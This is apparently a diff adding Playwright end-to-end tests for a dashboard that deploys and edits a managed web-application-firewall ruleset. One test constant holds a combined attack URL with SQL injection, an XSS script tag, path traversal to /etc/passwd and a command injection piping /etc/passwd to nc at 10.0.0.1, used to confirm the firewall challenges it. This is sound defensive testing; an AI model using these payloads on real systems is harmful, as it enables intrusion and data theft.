@@ -1,0 +1,191 @@
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import type { Page } from 'playwright-core'
+import { api } from '../support/sluice.ts'
+import { axeViolations, type DashboardTest, looks, openDashboard, screenshot, skip } from './support.ts'
+
+const phase = 'http_request_firewall_managed'
+const attack = `/search?q=${encodeURIComponent(`1' or '1'='1' union select password from users--`)}&x=${encodeURIComponent('<script>alert(1)</script>')}&f=${encodeURIComponent('../../../../etc/passwd')}&c=${encodeURIComponent(';cat /etc/passwd|nc 10.0.0.1 80')}`
+
+let dashboard: DashboardTest | undefined
+before(async () => {
+  if (!skip) dashboard = await openDashboard()
+})
+after(() => dashboard?.close())
+
+const test_ = (name: string, body: (dashboard: DashboardTest) => Promise<void>) =>
+  test(name, { skip }, async t => {
+    if (dashboard === undefined) return t.skip('no Chromium starts here')
+    await body(dashboard)
+  })
+
+async function deployed({ sluice, zoneId }: DashboardTest) {
+  const { result } = await api(sluice, 'GET', `/zones/${zoneId}/rulesets/phases/${phase}/entrypoint`)
+  return result
+}
+
+const choose = (page: Page, group: string, label: string) =>
+  page.getByRole('radiogroup', { name: group }).getByText(label, { exact: true }).click()
+
+const draftLines = (page: Page) =>
+  page.getByRole('list', { name: 'What will be different' }).getByRole('listitem').allTextContents()
+
+test_('by hand: PL2, High and Managed Challenge are deployed, and an attack is challenged', async it => {
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await page.getByRole('button', { name: 'Set it up' }).click()
+  assert.deepEqual((await draftLines(page)).slice(0, 2), [
+    'The ruleset is deployed for all requests.',
+    'Paranoia level: PL4. Threshold: Medium (40). Action: Block.',
+  ])
+  await choose(page, 'Paranoia level', 'PL2')
+  await choose(page, 'Score threshold', 'High 25')
+  await page.getByRole('radio', { name: 'Managed Challenge' }).check()
+  assert.equal(
+    (await draftLines(page))[1],
+    'Paranoia level: PL2. Threshold: High (25). Action: Managed Challenge.',
+  )
+  await page.getByText('Checked: the API accepts it').waitFor()
+  assert.equal((await it.visit(attack)).status, 200)
+
+  await page.getByRole('button', { name: /The API call this makes/ }).click()
+  await page.getByText('"paranoia-level-3"').waitFor()
+  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+  await page.getByText('in force at every edge').waitFor()
+  await page.getByRole('region', { name: 'Draft' }).waitFor({ state: 'detached' })
+
+  const { rules } = await deployed(it)
+  assert.equal(rules.length, 1)
+  assert.deepEqual(rules[0].action_parameters.overrides, {
+    categories: [
+      { category: 'paranoia-level-3', enabled: false },
+      { category: 'paranoia-level-4', enabled: false },
+    ],
+    rules: [{ id: '6179ae15870a4bb7b2d480d4843b323c', score_threshold: 25, action: 'managed_challenge' }],
+  })
+  await untilChallenged(it)
+  await page.context().close()
+})
+
+async function untilChallenged(it: DashboardTest): Promise<void> {
+  for (let tries = 0; tries < 50; tries++) {
+    const answer = await it.visit(attack)
+    if (answer.status === 403) {
+      assert.equal(answer.headers.get('cf-mitigated'), 'challenge')
+      return
+    }
+    await new Promise(resolve => setTimeout(resolve, 100))
+  }
+  assert.fail('the attack is not challenged')
+}
+
+test_('a scope is checked by the API while it is typed, and the fault is shown with its place', async it => {
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await page.getByRole('radio', { name: 'Requests that match an expression' }).check()
+  await page.getByRole('button', { name: 'Edit expression' }).click()
+  const field = page.getByRole('textbox', { name: 'Expression' })
+  await field.fill('http.request.uri.pat eq "/"')
+  await page.getByText('The API would refuse this').waitFor()
+  const refusal = page.getByRole('region', { name: 'Draft' }).getByRole('alert')
+  assert.match((await refusal.textContent()) ?? '', /Filter parsing error \(1:1\)/)
+  await field.fill('http.request.uri.path ne "/health"')
+  await page.getByText('Checked: the API accepts it').waitFor()
+  assert.deepEqual(await draftLines(page), [
+    'Scope: all requests → requests where http.request.uri.path ne "/health".',
+  ])
+  await page.getByRole('button', { name: 'Discard' }).click()
+  assert.ok(await page.getByRole('radio', { name: 'All requests' }).isChecked())
+  await page.context().close()
+})
+
+test_('a change that somebody else made meanwhile is shown, and not overwritten', async it => {
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await choose(page, 'Score threshold', 'Low 60')
+  const { id, rules } = await deployed(it)
+  const [{ id: ruleId, ...rule }] = rules
+  const theirs = structuredClone(rule)
+  for (const name of ['version', 'last_updated', 'ref']) delete theirs[name]
+  theirs.action_parameters.overrides.rules[0].action = 'log'
+  const patched = await api(it.sluice, 'PATCH', `/zones/${it.zoneId}/rulesets/${id}/rules/${ruleId}`, theirs)
+  assert.equal(patched.status, 200)
+  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+  await page.getByText('Somebody changed the rules of this zone meanwhile').waitFor()
+  await page.getByText('Action: Managed Challenge → Log.').waitFor()
+  await page.getByRole('button', { name: 'I have seen it' }).click()
+  await page.getByText('Checked: the API accepts it').waitFor()
+  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+  await page.getByText('in force at every edge').waitFor()
+  const [after] = (await deployed(it)).rules
+  assert.deepEqual(after.action_parameters.overrides.rules, [
+    { id: '6179ae15870a4bb7b2d480d4843b323c', score_threshold: 60, action: 'log' },
+  ])
+  await page.context().close()
+})
+
+test_('keys of payload logging are made in the browser, and the private one is shown once', async it => {
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await page.getByRole('button', { name: 'Make a key pair' }).click()
+  const dialog = page.getByRole('dialog')
+  const keys = JSON.parse((await dialog.locator('pre').textContent()) ?? '')
+  assert.deepEqual(Object.keys(keys), ['private_key', 'public_key'])
+  assert.equal(await dialog.getByRole('button', { name: 'Use the public key' }).isEnabled(), false)
+  await dialog.getByRole('button', { name: 'Copy both keys' }).click()
+  assert.deepEqual(JSON.parse(String(await page.evaluate('navigator.clipboard.readText()'))), keys)
+  await dialog.getByRole('checkbox', { name: 'I have kept the private key' }).check()
+  await dialog.getByRole('button', { name: 'Use the public key' }).click()
+  await dialog.waitFor({ state: 'detached' })
+  assert.equal((await page.content()).includes(keys.private_key), false)
+  await page.getByText('Checked: the API accepts it').waitFor()
+  await page.getByRole('button', { name: 'Deploy', exact: true }).click()
+  await page.getByText('in force at every edge').waitFor()
+  const [rule] = (await deployed(it)).rules
+  assert.deepEqual(rule.action_parameters.matched_data, { public_key: keys.public_key })
+  await page.context().close()
+})
+
+test_('the page is good to use for everybody, in light and dark and on a narrow screen', async it => {
+  for (const look of looks) {
+    const page = await it.page({ path: `/zones/${it.zoneId}/managed`, ...look })
+    await choose(page, 'Paranoia level', 'PL3')
+    await page.getByText('Checked: the API accepts it').waitFor()
+    assert.deepEqual(await axeViolations(page), [], look.name)
+    assert.ok(
+      await page.evaluate('document.documentElement.scrollWidth <= innerWidth'),
+      `${look.name}: nothing is cut off at the side`,
+    )
+    await screenshot(page, `managed-${look.name}`)
+    await page.context().close()
+  }
+})
+
+test_('a token that may only read sees everything, changes nothing, and is told why', async it => {
+  const groups = (await api(it.sluice, 'GET', `/accounts/${it.accountId}/tokens/permission_groups`)).result
+  const idOf = (name: string) => groups.find((group: { name: string }) => group.name === name).id
+  const { result } = await api(it.sluice, 'POST', '/user/tokens', {
+    name: 'reader',
+    policies: [
+      {
+        effect: 'allow',
+        permission_groups: [{ id: idOf('Zone Read') }, { id: idOf('Zone WAF Read') }],
+        resources: { [`com.cloudflare.api.account.zone.${it.zoneId}`]: '*' },
+      },
+    ],
+  })
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed`, token: result.value })
+  await page.getByText('Your token lacks “Zone WAF Write” on this zone.').waitFor()
+  assert.equal(await page.getByRole('radio', { name: 'Block' }).isDisabled(), true)
+  assert.equal(await page.getByRole('button', { name: 'Remove' }).isDisabled(), true)
+  await page.context().close()
+})
+
+test_('the ruleset is removed after a question', async it => {
+  const page = await it.page({ path: `/zones/${it.zoneId}/managed` })
+  await page.getByRole('button', { name: 'Remove' }).click()
+  const draft = page.getByRole('region', { name: 'Draft' })
+  await draft.getByRole('button', { name: 'Remove' }).click()
+  await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click()
+  await page.getByText('The ruleset is removed: version').waitFor()
+  assert.deepEqual((await deployed(it)).rules, [])
+  await page.getByRole('button', { name: 'Set it up' }).waitFor()
+  assert.deepEqual(it.faults, [])
+  await page.context().close()
+})
